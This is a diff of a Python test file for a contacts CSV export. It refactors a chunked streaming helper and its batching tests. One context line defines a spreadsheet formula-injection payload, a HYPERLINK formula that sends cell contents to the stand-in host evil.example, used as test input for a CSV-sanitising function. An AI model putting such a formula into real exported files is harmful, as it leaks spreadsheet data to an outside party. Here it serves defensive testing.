@@ -7,7 +7,7 @@ import json
 import openpyxl
 import pytest
 
-from kloyst.http.spreadsheet import csv_safe
+from kloyst.http.spreadsheet import csv_chunks, csv_safe
 from kloyst_plugins.contacts import export
 
 EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
@@ -72,7 +72,6 @@ def test_export_applies_the_list_filters_and_only_the_callers_contacts(testapp, 
 
 def test_export_streams_in_batches_across_many_rows(testapp, vendor, add_contact, monkeypatch):
     monkeypatch.setattr(export, "BATCH", 3)
-    monkeypatch.setattr(export, "_CSV_FLUSH_BYTES", 100)
     made = [add_contact(vendor, f"+4474001005{i:02d}") for i in range(8)]
     response = testapp.get("/v1/contacts/export", headers=vendor.headers)
     assert [r["id"] for r in _csv_rows(response)] == [c["id"] for c in reversed(made)]
@@ -80,7 +79,9 @@ def test_export_streams_in_batches_across_many_rows(testapp, vendor, add_contact
 
 def test_csv_chunks_is_a_generator_that_yields_as_it_goes():
     rows = ([str(i)] * len(export.COLUMNS) for i in range(5000))
-    chunks = export.csv_chunks(rows)
+    chunks = csv_chunks(export.COLUMNS, rows)
     first = next(chunks)
     assert first.startswith("\ufeff".encode()) and len(first) < 200 * 1024
     assert sum(1 for _ in chunks) >= 1
+    small = list(csv_chunks(export.COLUMNS, ([str(i)] * len(export.COLUMNS) for i in range(20)), flush_bytes=100))
+    assert len(small) > 5 and b"".join(small).decode("utf-8-sig").count("\r\n") == 21
